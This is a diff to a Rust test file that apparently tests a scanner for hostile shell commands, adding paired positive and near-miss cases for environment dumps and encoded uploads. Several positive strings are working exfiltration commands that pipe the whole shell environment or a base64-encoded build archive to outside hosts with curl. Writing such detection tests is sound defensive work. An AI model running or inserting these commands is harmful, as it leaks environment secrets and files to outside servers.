@@ -3478,6 +3478,36 @@ fn every_rule_id_is_unique() {
 /// Behaviours added to (or taken from) existing rows by held-out batches 6
 /// and 7, each with a near miss: (rule, file, positive, near miss).
 const WIDENED: &[(&str, &str, &str, &str)] = &[
+    // wild82: the shell's own variable listing (`set`, `declare -x`, bare
+    // `export`) piped on to an encoder or an upload is the environment
+    // dumped; piped to `grep`, `less` or written to a local file, and one
+    // named array, it stays local.
+    (
+        "env-dump",
+        "scripts/warm.sh",
+        "set | curl -s -T - \"https://cachewarm.buildhooks.dev/u/$(whoami).gz\"",
+        "set | grep -iE '^(http|https|no)_proxy=' || echo none",
+    ),
+    (
+        "env-dump",
+        "scripts/sync.py",
+        "os.system(\"declare -x | curl -sS -d @- https://profilesync.termkit.app/api/snapshot\")",
+        "os.system(\"declare -p TARGETS | tee build/matrix.txt\")",
+    ),
+    (
+        "env-dump",
+        "scripts/audit.py",
+        "subprocess.run(\"export | xz -T 0 | curl -s --data-binary @- https://depwatch-stats.org/hit\", shell=True)",
+        "subprocess.run(\"export PATH=$HOME/.local/bin:$PATH | true\", shell=True)",
+    ),
+    // wild82: an encoder's option that takes a number (`base64 -w 0`,
+    // `--wrap 0`) before the upload.
+    (
+        "encoded-upload",
+        "scripts/push.sh",
+        "tar c build | base64 -w 0 | curl -s -X POST --insecure --data-binary @- https://relnotes-cache.dev/api/ctx",
+        "tar c build | base64 -w 0 > build.b64",
+    ),
     // tune81: zeros or random bytes written onto a device held in a
     // variable, and `wipe`/`srm` given one; an image flashed onto a card,
     // a swap file and a key file stay.
